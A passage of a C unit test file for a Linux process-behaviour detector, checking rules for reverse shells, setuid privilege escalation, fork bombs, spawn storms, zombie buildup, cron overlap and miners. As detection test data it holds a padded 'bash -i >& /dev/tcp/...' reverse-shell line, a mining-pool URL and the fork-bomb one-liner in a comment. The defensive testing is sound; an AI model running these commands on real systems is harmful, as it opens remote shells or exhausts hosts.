	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("coredump"));
	sw_event_reset(&ev, SW_EV_COREDUMP);
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("coredump"));
	/* A thread's exit is not the process being killed. */
	sw_event_reset(&ev, SW_EV_EXIT);
	ev.thread = true;
	ev.u.exit.signal = SIGKILL;
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
}

static unsigned n_anomalies;
static struct sw_event last;

static void on_anomaly(struct sw_event *a, void *data)
{
	n_anomalies++;
	memcpy(&last, a, offsetof(struct sw_event, ancestry));
}

static void fork_at(struct sw_lineage *l, int parent, int pid, uint64_t t,
		    bool thread)
{
	struct sw_event e;

	sw_event_reset(&e, SW_EV_FORK);
	e.pid = thread ? parent : pid;
	e.tid = pid;
	e.thread = thread;
	e.u.fork.parent_pid = e.u.fork.parent_tid = parent;
	e.ktime_ns = t;
	apply(l, &e);
}

static void exit_at(struct sw_lineage *l, int pid, uint64_t t)
{
	struct sw_event e;

	sw_event_reset(&e, SW_EV_EXIT);
	e.pid = e.tid = pid;
	e.ktime_ns = t;
	apply(l, &e);
}

static void fork_exit(struct sw_lineage *l, int parent, int pid, bool exit)
{
	struct sw_event e;

	fork_at(l, parent, pid, 1000000000ull + (uint64_t)pid, false);
	if (!exit)
		return;
	sw_event_reset(&e, SW_EV_EXIT);
	e.pid = e.tid = pid;
	e.ktime_ns = 2000000000ull;
	apply(l, &e);
}

/* An exec of exe with argv ("a\0b\0", n bytes) applied to the table. */
static void exec_at(struct sw_lineage *l, int pid, const char *exe,
		    const char *argv, size_t n)
{
	struct sw_event e;

	sw_event_reset(&e, SW_EV_EXEC);
	e.pid = e.tid = pid;
	e.exe = exe;
	e.argv = argv;
	e.argv_len = n;
	e.have = SW_HAVE_EXE | SW_HAVE_ARGV;
	e.ktime_ns = 1500000000ull;
	apply(l, &e);
}

/* A shell of pid 30, wired to 192.0.2.4:4444 through holder, judged. */
static bool wired_shell(struct sw_lineage *l, int holder, uint8_t via, uint8_t why)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.pid = ev.tid = 30;
	ev.ppid = 20;
	ev.have = SW_HAVE_NET | SW_HAVE_PPID;
	snprintf(ev.net.peer, sizeof(ev.net.peer), "192.0.2.4");
	ev.net.port = 4444;
	ev.net.via = via;
	ev.net.holder = holder;
	ev.net.why = why;
	return sw_rules_net_revshell(&rules, l, &ev);
}

/* reverse-shell by connections: the judgement of what revconn found. */
static void test_revshell_net(void **state)
{
	struct sw_lineage_conf conf = { .cap = 100, .zombie_cap = 100,
					.gone_cap = 100, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = sw_lineage_new(&conf, u);
	static const char inline_py[] = "python3\0-c\0import socket";
	static const char app_py[] = "python3\0/srv/app.py";
	static const char awk[] = "gawk\0BEGIN{}";

	assert_non_null(l);
	fork_at(l, 1, 20, 1000000000ull, false);
	fork_at(l, 20, 30, 1100000000ull, false);
	/* A one-liner's interpreter holding the pipe and the socket off stdio. */
	exec_at(l, 20, "/usr/bin/python3.11", inline_py, sizeof(inline_py));
	assert_true(wired_shell(l, 20, SW_VIA_PIPE, SW_NETW_PARENT));
	assert_true(sw_rules_net_parent_inline(&rules, l, &ev));
	/* An app run from a file: a client of its own, not a reverse shell... */
	exec_at(l, 20, "/usr/bin/python3.11", app_py, sizeof(app_py));
	assert_false(wired_shell(l, 20, SW_VIA_PIPE, SW_NETW_PARENT));
	assert_false(sw_rules_net_parent_inline(&rules, l, &ev));
	/* ...unless its socket is its own stdio, or it holds the pty or pair. */
	assert_true(wired_shell(l, 20, SW_VIA_PIPE, SW_NETW_PARENT | SW_NETW_SOCK_STDIO));
	assert_true(wired_shell(l, 20, SW_VIA_PTY, SW_NETW_PARENT));
	assert_true(wired_shell(l, 20, SW_VIA_SOCKETPAIR, SW_NETW_PARENT));
	assert_true(wired_shell(l, 25, SW_VIA_PIPE, SW_NETW_SIBLING | SW_NETW_END_STDIO));
	exec_at(l, 20, "/usr/bin/gawk", awk, sizeof(awk));
	assert_true(wired_shell(l, 20, SW_VIA_PIPE, SW_NETW_PARENT));
	/* A remote-shell server holding it, by path; a renamed copy is not one. */
	exec_at(l, 20, "/usr/sbin/sshd", "sshd", 5);
	assert_false(wired_shell(l, 20, SW_VIA_PTY, SW_NETW_PARENT));
	exec_at(l, 20, "/tmp/sshd", "sshd", 5);
	assert_true(wired_shell(l, 20, SW_VIA_PTY, SW_NETW_PARENT));
	/* stdio: judged by who started it (the ancestry's parent). */
	assert_true(wired_shell(l, 0, SW_VIA_STDIO, 0));
	ev.ancestry[0] = (struct sw_ancestor){ 20, "sshd", "/usr/sbin/sshd" };
	ev.n_ancestry = 1;
	assert_false(sw_rules_net_revshell(&rules, NULL, &ev));
	/* A recorded net (replay: no facts) stands on the allow-list alone. */
	assert_true(wired_shell(NULL, 77, SW_VIA_PIPE, 0));
	/* Off, nothing; no net, nothing. */
	rules.net.revshell_enabled = false;
	assert_false(wired_shell(l, 20, SW_VIA_PTY, SW_NETW_PARENT));
	rules.net.revshell_enabled = true;
	ev.have = 0;
	assert_false(sw_rules_net_revshell(&rules, l, &ev));
	sw_lineage_free(l);
	sw_users_free(u);
}

/* Raised once per crossing, re-armed when the count falls back. */
static void test_zombies(void **state)
{
	struct sw_lineage_conf conf = { .cap = 1000, .zombie_cap = 1000,
					.gone_cap = 1000, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = sw_lineage_new(&conf, u);
	struct sw_event scratch;

	assert_non_null(l);
	fork_exit(l, 0, 10, false);
	for (int pid = 100; pid < 199; pid++)
		fork_exit(l, 10, pid, true);
	sw_detect_tick(det, l, 3000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);	/* 99: one short */
	fork_exit(l, 10, 199, true);
	sw_detect_tick(det, l, 3000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_int_equal(last.type, SW_EV_ANOMALY);
	assert_int_equal(last.pid, 10);
	assert_string_equal(last.u.anomaly.tag, "zombie-accumulation");
	assert_int_equal(last.u.anomaly.count, 100);
	assert_int_equal(last.u.anomaly.threshold, 100);
	assert_true(last.u.anomaly.oldest_s > 0.99 && last.u.anomaly.oldest_s < 1.01);
	sw_detect_tick(det, l, 4000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* still there: said once */
	for (int pid = 100; pid < 130; pid++)
		sw_lineage_mark_reaped(l, sw_lineage_find(l, pid), 4000000000ull);
	sw_detect_tick(det, l, 5000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	for (int pid = 200; pid < 230; pid++)
		fork_exit(l, 10, pid, true);
	sw_detect_tick(det, l, 6000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);	/* crossed again */
	rules.zombie.enabled = false;
	for (int pid = 100; pid < 230; pid++) {
		struct sw_proc *p = sw_lineage_find(l, pid);

		if (p)
			sw_lineage_mark_reaped(l, p, 7000000000ull);
	}
	sw_detect_tick(det, l, 7000000000ull, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	sw_lineage_free(l);
	sw_users_free(u);
}

#define S 1000000000ull

/* Many alive at once is a storm; as many one after another is not. */
static void test_storm(void **state)
{
	struct sw_lineage_conf conf = { .cap = 5000, .zombie_cap = 5000,
					.gone_cap = 5000, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = sw_lineage_new(&conf, u);
	struct sw_event scratch;
	int pid = 1000;

	assert_non_null(l);
	n_anomalies = 0;
	fork_at(l, 0, 10, 1 * S, false);	/* a make-like parent */
	fork_at(l, 0, 20, 1 * S, false);	/* a storming parent */
	/* 1000 children one after another within 5 s: never 2 alive. */
	for (int i = 0; i < 1000; i++, pid++) {
		fork_at(l, 10, pid, 10 * S + (uint64_t)i * 5000000, false);
		exit_at(l, pid, 10 * S + (uint64_t)i * 5000000 + 1000);
		sw_lineage_mark_reaped(l, sw_lineage_find(l, pid), 10 * S);
	}
	/* 10,000 threads of one process are not children. */
	for (int i = 0; i < 10000; i++)
		fork_at(l, 20, 50000 + i, 15 * S, true);
	sw_detect_tick(det, l, 15 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);
	/* 199 alive children: one short. */
	for (int i = 0; i < 199; i++, pid++)
		fork_at(l, 20, pid, 16 * S, false);
	sw_detect_tick(det, l, 16 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);
	fork_at(l, 20, pid++, 17 * S, false);
	sw_detect_tick(det, l, 17 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_int_equal(last.pid, 20);
	assert_string_equal(last.u.anomaly.tag, "spawn-storm");
	assert_int_equal(last.u.anomaly.count, 200);
	assert_int_equal(last.u.anomaly.threshold, 200);
	sw_detect_tick(det, l, 18 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* said once */
	/* The window slides past: calm, re-armed, then a second storm. */
	sw_detect_tick(det, l, 40 * S, &scratch, on_anomaly, NULL);
	for (int i = 0; i < 200; i++, pid++)
		fork_at(l, 20, pid, 41 * S, false);
	sw_detect_tick(det, l, 41 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	sw_lineage_free(l);
	sw_users_free(u);
}

static struct sw_lineage *table(unsigned cap, struct sw_users *u)
{
	struct sw_lineage_conf conf = { .cap = cap, .zombie_cap = cap,
					.gone_cap = cap, .ancestry = 8,
					.linger_ns = 1, .procfd = -1 };
	struct sw_lineage *l = sw_lineage_new(&conf, u);

	assert_non_null(l);
	return l;
}

/* An exec of exe with argv ("a\0b\0", n bytes), through lineage and detect. */
static void exec_in(struct sw_lineage *l, int pid, const char *exe,
		    const char *argv, size_t n, uint64_t t)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.pid = ev.tid = pid;
	ev.ktime_ns = t;
	ev.enriched = true;
	ev.exe = exe;
	ev.comm = sw_rule_base(exe);
	ev.argv = argv;
	ev.argv_len = n;
	ev.have = SW_HAVE_EXE | SW_HAVE_ARGV | SW_HAVE_COMM;
	apply(l, &ev);
}

#define EXEC_IN(l, pid, exe, argv, t) exec_in(l, pid, exe, argv, sizeof(argv), t)

/* privilege-escalation through the table: an exec with its credentials. */
static void priv_exec(struct sw_lineage *l, int pid, const char *exe,
		      uint32_t uid, uint32_t euid)
{
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.pid = ev.tid = pid;
	ev.ktime_ns = 2 * 1000000000ull;
	ev.enriched = true;
	ev.exe = exe;
	ev.comm = sw_rule_base(exe);
	ev.uid = uid;
	ev.euid = euid;
	ev.have = SW_HAVE_EXE | SW_HAVE_COMM | SW_HAVE_CREDS;
	apply(l, &ev);
}

/* A uid event; exe_now is what enrich read then (NULL: as the table). */
static void priv_uid(struct sw_lineage *l, int pid, uint32_t r, uint32_t e,
		     const char *exe_now)
{
	sw_event_reset(&ev, SW_EV_UID);
	ev.pid = ev.tid = pid;
	ev.ktime_ns = 2 * 1000000000ull;
	ev.u.id.r = r;
	ev.u.id.e = e;
	ev.u.id.exe = exe_now;
	if (e == 0) {
		ev.u.id.have_privs = true;
		ev.u.id.saved = 0;
		ev.u.id.cap_eff = ev.u.id.cap_bnd = 0x1ffffffffffull;
	}
	apply(l, &ev);
}

static void priv_fork(struct sw_lineage *l, int parent, int pid)
{
	fork_at(l, parent, pid, 2 * 1000000000ull, false);
}

/* A setuid exec: the tag on the exec line of the escalated program. */
static void test_priv_setuid_exec(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100, u);

	priv_exec(l, 10, "/usr/bin/bash", 1000, 1000);
	assert_false(tagged("privilege-escalation"));
	priv_fork(l, 10, 11);
	priv_uid(l, 11, 1000, 0, "/tmp/x/find");	/* during the exec */
	assert_false(tagged("privilege-escalation"));
	priv_exec(l, 11, "/tmp/x/find", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	/* The shell it starts, not what runs under that shell. */
	priv_fork(l, 11, 12);
	priv_exec(l, 12, "/usr/bin/dash", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	priv_fork(l, 12, 13);
	priv_exec(l, 13, "/usr/bin/id", 1000, 0);
	assert_false(tagged("privilege-escalation"));
	/* In the same process (env /bin/sh -p). */
	priv_fork(l, 10, 14);
	priv_uid(l, 14, 1000, 0, "/tmp/x/env");
	priv_exec(l, 14, "/tmp/x/env", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	priv_exec(l, 14, "/usr/bin/dash", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	/* A setuid program that gives root up before it runs another. */
	priv_fork(l, 10, 15);
	priv_uid(l, 15, 1000, 0, "/tmp/x/tool");
	priv_exec(l, 15, "/tmp/x/tool", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	priv_uid(l, 15, 1000, 1000, NULL);
	assert_false(tagged("privilege-escalation"));
	priv_exec(l, 15, "/usr/bin/dash", 1000, 1000);
	assert_false(tagged("privilege-escalation"));
	/* Root dropped fully (setpriv, su), then a setuid exec: judged. */
	priv_exec(l, 16, "/usr/bin/setpriv", 0, 0);
	priv_uid(l, 16, 1000, 1000, NULL);
	assert_false(tagged("privilege-escalation"));
	priv_uid(l, 16, 1000, 0, "/tmp/x/bash");
	assert_false(tagged("privilege-escalation"));
	priv_exec(l, 16, "/tmp/x/bash", 1000, 0);
	assert_true(tagged("privilege-escalation"));
	/* A setuid exec that leaves the real uid 0 is root's own. */
	priv_exec(l, 17, "/usr/sbin/daemon", 0, 0);
	priv_uid(l, 17, 0, 1000, NULL);
	priv_uid(l, 17, 0, 0, "/tmp/x/suid");
	assert_false(tagged("privilege-escalation"));
	priv_exec(l, 17, "/tmp/x/suid", 0, 0);
	assert_false(tagged("privilege-escalation"));
	sw_lineage_free(l);
	sw_users_free(u);
}

/* Allowed helpers, what they start, and a shell they must not start. */
static void test_priv_helpers(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100, u);

	priv_exec(l, 10, "/usr/bin/bash", 1000, 1000);
	priv_fork(l, 10, 11);
	priv_uid(l, 11, 1000, 0, "/usr/bin/sudo");
	assert_false(tagged("privilege-escalation"));
	priv_exec(l, 11, "/usr/bin/sudo", 1000, 0);
	assert_false(tagged("privilege-escalation"));
	priv_uid(l, 11, 0, 0, NULL);		/* sudo becomes root */
	assert_false(tagged("privilege-escalation"));
	priv_fork(l, 11, 12);
	priv_exec(l, 12, "/usr/bin/bash", 0, 0);	/* sudo -s */
	assert_false(tagged("privilege-escalation"));
	/* mount starts its helpers with root's effective uid. */
	priv_fork(l, 10, 13);
	priv_uid(l, 13, 1000, 0, "/usr/bin/mount");
	priv_exec(l, 13, "/usr/bin/mount", 1000, 0);
	assert_false(tagged("privilege-escalation"));
	priv_fork(l, 13, 14);
	priv_exec(l, 14, "/usr/sbin/mount.nfs", 1000, 0);
	assert_false(tagged("privilege-escalation"));
	priv_fork(l, 13, 15);
	priv_exec(l, 15, "/usr/bin/dash", 1000, 0);	/* but no shell */
	assert_true(tagged("privilege-escalation"));
	/* The rules file names the shells. */
	rules.priv.shells.n = 0;
	priv_fork(l, 13, 16);
	priv_exec(l, 16, "/usr/bin/dash", 1000, 0);
	assert_false(tagged("privilege-escalation"));
	sw_lineage_free(l);
	sw_users_free(u);
}

/* A process that returns to a uid it had is no escalation. */
static void test_priv_return(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100, u);

	/* seteuid(1000) then seteuid(0), as apt does around its _apt work. */
	priv_exec(l, 20, "/usr/bin/apt-get", 0, 0);
	priv_uid(l, 20, 0, 42, NULL);
	priv_uid(l, 20, 0, 0, NULL);
	assert_false(tagged("privilege-escalation"));
	/* setresuid(1000, 1000, 0), then back to 0 by its saved uid. */
	priv_exec(l, 21, "/usr/sbin/daemon", 0, 0);
	priv_uid(l, 21, 1000, 1000, NULL);
	priv_uid(l, 21, 1000, 0, NULL);
	assert_false(tagged("privilege-escalation"));
	priv_uid(l, 21, 1000, 1000, NULL);
	priv_uid(l, 21, 0, 0, NULL);		/* setresuid(0, 0, 0) */
	assert_false(tagged("privilege-escalation"));
	/* Its child, forked while it held saved 0, too. */
	priv_uid(l, 21, 1000, 1000, NULL);
	priv_fork(l, 21, 22);
	priv_uid(l, 22, 0, 0, NULL);
	assert_false(tagged("privilege-escalation"));
	/* Once it runs another program as 1000, its saved uid is gone. */
	priv_fork(l, 21, 23);
	priv_exec(l, 23, "/usr/bin/worker", 1000, 1000);
	priv_uid(l, 23, 0, 0, NULL);
	assert_true(tagged("privilege-escalation"));
	/* A user's process that makes all its uids 0 (CAP_SETUID, the kernel). */
	priv_exec(l, 24, "/usr/bin/bash", 1000, 1000);
	priv_uid(l, 24, 0, 0, NULL);
	assert_true(tagged("privilege-escalation"));
	/* ...and the program it starts then. */
	priv_fork(l, 24, 25);
	priv_exec(l, 25, "/usr/bin/dash", 0, 0);
	assert_true(tagged("privilege-escalation"));
	priv_fork(l, 25, 26);
	priv_exec(l, 26, "/usr/bin/id", 0, 0);
	assert_false(tagged("privilege-escalation"));
	sw_lineage_free(l);
	sw_users_free(u);
}

/*
 * The rules judge the whole command line, not what a line or the table
 * keeps of it: a /dev/tcp/ redirect, a miner's pool after 33,000 bytes of
 * padding is found, at the exec, through the table (whose copy is cut).
 */
static void test_tail(void **state)
{
	static const char shell[] = "bash\0-c\0";
	static const char tail[] = " ; bash -i >& /dev/tcp/127.0.0.1/9 0>&1";
	static const char pool[] = "stratum+tcp://pool.example:3333";
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100, u);
	const size_t pad = 33000;
	size_t n = sizeof(shell) - 1 + pad + sizeof(tail);
	char *argv = malloc(n + sizeof(pool) + 8);
	const struct sw_proc *p;

	assert_non_null(argv);
	memcpy(argv, shell, sizeof(shell) - 1);
	memset(argv + sizeof(shell) - 1, ':', pad);
	memcpy(argv + sizeof(shell) - 1 + pad, tail, sizeof(tail));
	fork_at(l, 1, 100, 1 * S, false);
	exec_in(l, 100, "/usr/bin/bash", argv, n, 2 * S);
	assert_true(tagged("reverse-shell"));
	/* The exec's own command line is whole after the table. */
	assert_int_equal(ev.argv_len, n);
	assert_false(ev.cut & SW_HAVE_ARGV);
	/* The table keeps SW_ARGV_KEEP bytes, and the whole line's length. */
	p = sw_lineage_lookup(l, 100);
	assert_non_null(p);
	assert_int_equal(p->argv->len, SW_ARGV_KEEP);
	assert_true(p->cut & SW_HAVE_ARGV);
	assert_int_equal(p->argv_size, n);

	/* A miner's pool as the last argument, past the padding. */
	memcpy(argv + sizeof(shell) - 1 + pad, "\0", 1);
	memcpy(argv, "xmr\0-a\0", 7);
	memcpy(argv + sizeof(shell) - 1 + pad + 1, pool, sizeof(pool));
	n = sizeof(shell) - 1 + pad + 1 + sizeof(pool);
	fork_at(l, 1, 101, 3 * S, false);
	exec_in(l, 101, "/tmp/x/worker", argv, n, 4 * S);
	assert_true(tagged("miner"));
	free(argv);
	sw_lineage_free(l);
	sw_users_free(u);
}

/*
 * fork-bomb: copies forked from copies, deep and many.  A bomb whose
 * members' parents exit (and hand them to init) is still one clan.
 */
static void test_bomb(void **state)
{
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(5000, u);
	struct sw_event scratch;
	int pid = 1000, level[5][64], n[5] = { 0 };

	fork_at(l, 1, 100, 1 * S, false);
	EXEC_IN(l, 100, "/usr/bin/bash", "bash\0" "bomb.sh", 1 * S);
	/* Four generations of 3 children each: 3 + 9 + 27 + 81. */
	level[0][n[0]++] = 100;
	for (int g = 1; g <= 4; g++)
		for (int i = 0; i < n[g - 1]; i++)
			for (int k = 0; k < 3; k++) {
				fork_at(l, level[g - 1][i], pid, 2 * S, false);
				if (n[g] < 64)
					level[g][n[g]++] = pid;
				pid++;
			}
	n_anomalies = 0;
	sw_detect_tick(det, l, 3 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);	/* 9 + 27 + 81 copies' copies */
	/* Another 90 at the fourth generation... */
	for (int i = 0; i < 30; i++)
		for (int k = 0; k < 3; k++)
			fork_at(l, level[3][i % n[3]], pid++, 3 * S, false);
	sw_detect_tick(det, l, 4 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_string_equal(last.u.anomaly.tag, "fork-bomb");
	/* The first copy, not the root that ran the program. */
	assert_int_equal(last.pid, level[1][0]);
	assert_int_equal(last.u.anomaly.count, 207);
	assert_int_equal(last.u.anomaly.threshold, 200);
	sw_detect_tick(det, l, 5 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);		/* said once */
	/* The root and the first generation die: the clan lives on. */
	exit_at(l, 100, 5 * S);
	for (int i = 0; i < n[1]; i++)
		exit_at(l, level[1][i], 5 * S);
	sw_detect_tick(det, l, 6 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);		/* still the same one */
	/* It dies down, then flares again: raised again, naming the eldest. */
	for (int p = 1000; p < pid; p++)
		exit_at(l, p, 7 * S);
	sw_detect_tick(det, l, 7 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	sw_lineage_free(l);

	/* Near misses: 300 workers forked by the server; a deep thin chain. */
	rules.storm.enabled = false;	/* a storm, but that is another tag */
	sw_detect_free(det);		/* another host: another detector */
	det = sw_detect_new(&rules, &host);
	l = table(5000, u);
	fork_at(l, 1, 100, 1 * S, false);
	EXEC_IN(l, 100, "/usr/sbin/apache2", "apache2\0" "-k\0" "start", 1 * S);
	for (int i = 0; i < 300; i++)
		fork_at(l, 100, 1000 + i, 2 * S, false);
	for (int p = 2000, parent = 100; p < 2010; parent = p++)
		fork_at(l, parent, p, 2 * S, false);	/* 10 deep, 10 */
	/* Copies that run another program leave the clan. */
	for (int i = 0; i < 300; i++) {
		fork_at(l, 2009, 3000 + i, 2 * S, false);
		EXEC_IN(l, 3000 + i, "/usr/bin/cat", "cat", 2 * S);
	}
	sw_detect_tick(det, l, 3 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	/* A lower count catches the chain's 9 copies of copies. */
	rules.bomb.descendants = 9;
	sw_detect_tick(det, l, 4 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	assert_int_equal(last.pid, 2000);	/* the chain's head, not a worker */
	assert_int_equal(last.u.anomaly.count, 9);
	rules.bomb.enabled = false;
	sw_detect_tick(det, l, 5 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	sw_lineage_free(l);
	sw_users_free(u);
}

/* The live copies of the bomb test below, and the next pid to fork. */
static int copies[2048], n_copies, next_copy;

/* Each live copy forks two and returns: its children go to init. */
static void bomb_wave(struct sw_lineage *l, uint64_t t)
{
	int old[2048], n = n_copies;

	memcpy(old, copies, sizeof(old[0]) * (size_t)n);
	n_copies = 0;
	for (int i = 0; i < n; i++) {
		for (int k = 0; k < 2 && n_copies < 2048; k++) {
			fork_at(l, old[i], next_copy, t + (uint64_t)next_copy, false);
			copies[n_copies++] = next_copy++;
		}
		exit_at(l, old[i], t);
		for (int j = n_copies - 2; j < n_copies; j++)
			sw_lineage_reparent(l, sw_lineage_find(l, copies[j]), 1);
	}
}

/* n more copies, forked by the live ones (a pids.max lets some through). */
static void bomb_grow(struct sw_lineage *l, int n, uint64_t t)
{
	for (int i = 0, base = n_copies; i < n && n_copies < 2048; i++) {
		fork_at(l, copies[i % base], next_copy, t + (uint64_t)next_copy,
			false);
		copies[n_copies++] = next_copy++;
	}
}

static void bomb_shrink(struct sw_lineage *l, int to, uint64_t t)
{
	while (n_copies > to)
		exit_at(l, copies[--n_copies], t);
}

/*
 * `:(){ :|:& };:` typed in an interactive shell, its processes held at a
 * pids.max: the shell it was typed in is innocent, the bomb is its copies.
 * Raised once while the count wavers around the threshold, again for a
 * bomb that flares after it had nearly died out or one typed anew.
 */
static void test_bomb_blame(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(20000, u);
	struct sw_event scratch;
	int first;

	rules.storm.enabled = false;
	fork_at(l, 1, 50, 1 * S, false);
	EXEC_IN(l, 50, "/usr/sbin/sshd", "sshd: u@pts/0", 1 * S);
	fork_at(l, 50, 100, 1 * S, false);
	EXEC_IN(l, 100, "/usr/bin/bash", "-bash", 1 * S);
	fork_at(l, 100, 101, 2 * S, false);	/* a command typed before */
	EXEC_IN(l, 101, "/usr/bin/ls", "ls", 2 * S);
	exit_at(l, 101, 2 * S);
	/* The shell forks the pipeline's two copies; eight waves follow. */
	next_copy = 1000;
	n_copies = 0;
	for (int k = 0; k < 2; k++) {
		fork_at(l, 100, next_copy, 10 * S, false);
		copies[n_copies++] = next_copy++;
	}
	for (int g = 0; g < 7; g++)
		bomb_wave(l, 10 * S + (uint64_t)g);
	first = copies[0];
	assert_int_equal(n_copies, 256);
	n_anomalies = 0;
	sw_detect_tick(det, l, 11 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_string_equal(last.u.anomaly.tag, "fork-bomb");
	assert_int_not_equal(last.pid, 100);	/* never the shell */
	assert_int_equal(last.pid, first);	/* the first copy alive */
	assert_int_equal(last.ppid, 1);
	assert_int_equal(last.u.anomaly.count, 256);
	/* Held at the limit, the count wavers around the threshold: once. */
	bomb_shrink(l, 150, 12 * S);
	sw_detect_tick(det, l, 12 * S, &scratch, on_anomaly, NULL);
	bomb_grow(l, 80, 13 * S);
	sw_detect_tick(det, l, 13 * S, &scratch, on_anomaly, NULL);
	bomb_shrink(l, 101, 14 * S);
	sw_detect_tick(det, l, 14 * S, &scratch, on_anomaly, NULL);
	bomb_grow(l, 200, 15 * S);
	sw_detect_tick(det, l, 15 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	/* Nearly dead (below half), then flaring: a bomb again. */
	bomb_shrink(l, 40, 16 * S);
	sw_detect_tick(det, l, 16 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	bomb_grow(l, 200, 17 * S);
	sw_detect_tick(det, l, 17 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	assert_int_not_equal(last.pid, 100);
	/* All gone; typed anew in the same shell: raised at the threshold. */
	bomb_shrink(l, 0, 18 * S);
	sw_detect_tick(det, l, 18 * S, &scratch, on_anomaly, NULL);
	for (int k = 0; k < 2; k++) {
		fork_at(l, 100, next_copy, 20 * S, false);
		copies[n_copies++] = next_copy++;
	}
	for (int g = 0; g < 6; g++)
		bomb_wave(l, 20 * S + (uint64_t)g);
	assert_int_equal(n_copies, 128);
	sw_detect_tick(det, l, 21 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);	/* below the threshold */
	bomb_wave(l, 22 * S);
	sw_detect_tick(det, l, 22 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 3);
	assert_int_equal(last.pid, copies[0]);
	rules.storm.enabled = true;
	sw_lineage_free(l);
	sw_users_free(u);
}

/* cron-overlap: a job started while its previous run still lives. */
static void test_cron(void **state)
{
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(1000, u);
	struct sw_event scratch;

	fork_at(l, 1, 50, 1 * S, false);
	EXEC_IN(l, 50, "/usr/sbin/cron", "/usr/sbin/cron\0" "-f", 1 * S);
	assert_int_equal(ev.n_tags, 0);
	/* Run 1: cron's child forks the job, which execs the command. */
	fork_at(l, 50, 60, 60 * S, false);
	fork_at(l, 60, 61, 60 * S, false);
	EXEC_IN(l, 61, "/usr/bin/dash", "/bin/sh\0" "-c\0" "backup.sh", 60 * S);
	assert_int_equal(ev.n_tags, 0);
	n_anomalies = 0;
	sw_detect_tick(det, l, 61 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);
	/* A different job at the same time is no overlap. */
	fork_at(l, 50, 70, 90 * S, false);
	fork_at(l, 70, 71, 90 * S, false);
	EXEC_IN(l, 71, "/usr/bin/dash", "/bin/sh\0" "-c\0" "report.sh", 90 * S);
	assert_int_equal(ev.n_tags, 0);
	/* Nor the same command line run by hand, outside cron. */
	fork_at(l, 1, 75, 100 * S, false);
	EXEC_IN(l, 75, "/usr/bin/dash", "/bin/sh\0" "-c\0" "backup.sh", 100 * S);
	assert_int_equal(ev.n_tags, 0);
	/* Run 2 of backup.sh while run 1 lives: tagged, and one anomaly. */
	fork_at(l, 50, 80, 120 * S, false);
	fork_at(l, 80, 81, 120 * S, false);
	EXEC_IN(l, 81, "/usr/bin/dash", "/bin/sh\0" "-c\0" "backup.sh", 120 * S);
	assert_true(tagged("cron-overlap"));
	sw_detect_tick(det, l, 121 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_string_equal(last.u.anomaly.tag, "cron-overlap");
	/* The job by its first run alive and its command line, not cron's. */
	assert_int_equal(last.pid, 61);
	assert_int_equal(last.ppid, 60);
	assert_true(last.have & SW_HAVE_ARGV);
	assert_int_equal(last.argv_len, sizeof("/bin/sh\0-c\0backup.sh"));
	assert_memory_equal(last.argv, "/bin/sh\0-c\0backup.sh",
			    last.argv_len);
	assert_string_equal(last.exe, "/usr/bin/dash");
	assert_int_equal(last.u.anomaly.count, 1);
	assert_int_equal(last.u.anomaly.threshold, 1);
	assert_true(last.u.anomaly.oldest_s > 60.9 && last.u.anomaly.oldest_s < 61.1);
